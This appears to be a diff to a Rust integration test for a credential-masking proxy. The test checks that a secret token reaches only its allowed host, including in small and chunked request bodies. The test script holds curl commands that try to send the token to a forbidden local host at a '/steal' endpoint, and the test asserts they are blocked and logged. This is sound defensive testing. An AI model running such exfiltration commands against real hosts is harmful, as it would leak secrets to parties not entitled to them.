@@ -112,8 +112,30 @@ fn upstream(ca: &TestCa, ip: &str) -> Upstream {
                                 .then(|| v.trim().parse::<usize>().ok())?
                         })
                         .unwrap_or(0);
+                    let chunked = head
+                        .to_ascii_lowercase()
+                        .contains("transfer-encoding: chunked");
                     let mut body = vec![0u8; len];
-                    if r.read_exact(&mut body).is_err() {
+                    if chunked {
+                        body.clear();
+                        loop {
+                            let mut size = String::new();
+                            if r.read_line(&mut size).unwrap_or(0) == 0 {
+                                return;
+                            }
+                            let n = usize::from_str_radix(size.trim(), 16).unwrap_or(0);
+                            if n == 0 {
+                                let mut end = String::new();
+                                let _ = r.read_line(&mut end);
+                                break;
+                            }
+                            let mut chunk = vec![0u8; n + 2];
+                            if r.read_exact(&mut chunk).is_err() {
+                                return;
+                            }
+                            body.extend_from_slice(&chunk[..n]);
+                        }
+                    } else if r.read_exact(&mut body).is_err() {
                         return;
                     }
                     let text = format!("{head}{}", String::from_utf8_lossy(&body));
@@ -493,7 +515,13 @@ fn a_masked_credential_stays_outside_and_reaches_only_its_inject_hosts() {
          {CURL} -w '\\nheader=%{{http_code}}\\n' -H \"Authorization: Bearer $RF_TEST_TOKEN\" \
            https://127.0.0.1:{b}/steal; \
          {CURL} -w '\\nurl=%{{http_code}}\\n' \"https://127.0.0.1:{b}/steal?t=$RF_TEST_TOKEN\"; \
-         {CURL} -o /dev/null -w 'plain=%{{http_code}}\\n' https://127.0.0.1:{b}/fine"
+         {CURL} -o /dev/null -w 'plain=%{{http_code}}\\n' https://127.0.0.1:{b}/fine; \
+         {CURL} -o /dev/null -w 'body=%{{http_code}}\\n' -d \"t=$RF_TEST_TOKEN&x=1\" https://127.0.0.1:{a}/body; \
+         {CURL} -w '\\nbodyleak=%{{http_code}}\\n' -d \"t=$RF_TEST_TOKEN\" https://127.0.0.1:{b}/body; \
+         head -c 1500000 /dev/zero | tr '\\0' a > /tmp/big; printf %s \"$RF_TEST_TOKEN\" >> /tmp/big; \
+         printf zzz >> /tmp/big; \
+         {CURL} -o /dev/null -w 'big=%{{http_code}}\\n' --data-binary @/tmp/big https://127.0.0.1:{a}/big; \
+         {CURL} -o /dev/null -w 'bigleak=%{{http_code}}\\n' --data-binary @/tmp/big https://127.0.0.1:{b}/big"
     );
     let out = run(rf(&dir).env("RF_TEST_TOKEN", &real).args([
         "run", "--name", &name, "-s", &settings, "--", "sh", "-c", &script,
@@ -513,19 +541,47 @@ fn a_masked_credential_stays_outside_and_reaches_only_its_inject_hosts() {
     assert!(text.contains("header=403"), "{text}");
     assert!(text.contains("url=403"), "{text}");
     assert!(text.contains("plain=200"), "{text}");
+    assert!(text.contains("body=200"), "{text}");
+    assert!(text.contains("bodyleak=403"), "{text}");
+    assert!(text.contains("big=200"), "{text}");
+    assert!(!text.contains("bigleak=200"), "{text}");
     assert!(text.contains("attempted credential leak"), "{text}");
     // The injectHost got the real value, in place of the placeholder.
+    // (Requests are shown cut short: one body is 1.5 MB.)
+    let short =
+        |v: &[String]| -> Vec<String> { v.iter().map(|s| s.chars().take(400).collect()).collect() };
     let seen = api.seen.lock().unwrap().clone();
-    assert_eq!(seen.len(), 1, "{seen:?}");
+    assert_eq!(seen.len(), 3, "{:?}", short(&seen));
     assert!(
         seen[0].contains(&format!("authorization: Bearer {real}\r\n")),
-        "{seen:?}"
+        "{:?}",
+        short(&seen)
     );
-    assert!(!seen[0].contains(&placeholder));
+    assert!(seen.iter().all(|s| !s.contains(&placeholder)));
+    // A small body with its Content-Length adjusted; a large one streamed (chunked).
+    assert!(
+        seen[1].ends_with(&format!("\r\n\r\nt={real}&x=1")),
+        "{:?}",
+        short(&seen)
+    );
+    let len = format!("t={real}&x=1").len();
+    assert!(
+        seen[1]
+            .to_ascii_lowercase()
+            .contains(&format!("content-length: {len}\r\n")),
+        "{:?}",
+        short(&seen)
+    );
+    assert!(seen[2].starts_with("POST /big "), "{:?}", short(&seen));
+    assert!(
+        seen[2].ends_with(&format!("a{real}zzz")),
+        "{:?}",
+        short(&seen)
+    );
     // The other host got neither the value nor the placeholder.
     let seen = other.seen.lock().unwrap().clone();
-    assert_eq!(seen.len(), 1, "only /fine: {seen:?}");
-    assert!(seen[0].starts_with("GET /fine "), "{seen:?}");
+    assert_eq!(seen.len(), 1, "only /fine: {:?}", short(&seen));
+    assert!(seen[0].starts_with("GET /fine "), "{:?}", short(&seen));
     // Both leaks are in the log, which holds no real value.
     let log = common::log_events(common::rf_in(&dir), &name);
     let leaks: Vec<_> = log
@@ -537,7 +593,7 @@ fn a_masked_credential_stays_outside_and_reaches_only_its_inject_hosts() {
                     .is_some_and(|r| r.contains("credential leak"))
         })
         .collect();
-    assert_eq!(leaks.len(), 2, "{log:?}");
+    assert_eq!(leaks.len(), 4, "{log:?}");
     assert!(!serde_json::to_string(&log).unwrap().contains(&real));
 
     // Masking without TLS termination is refused, naming the entry.
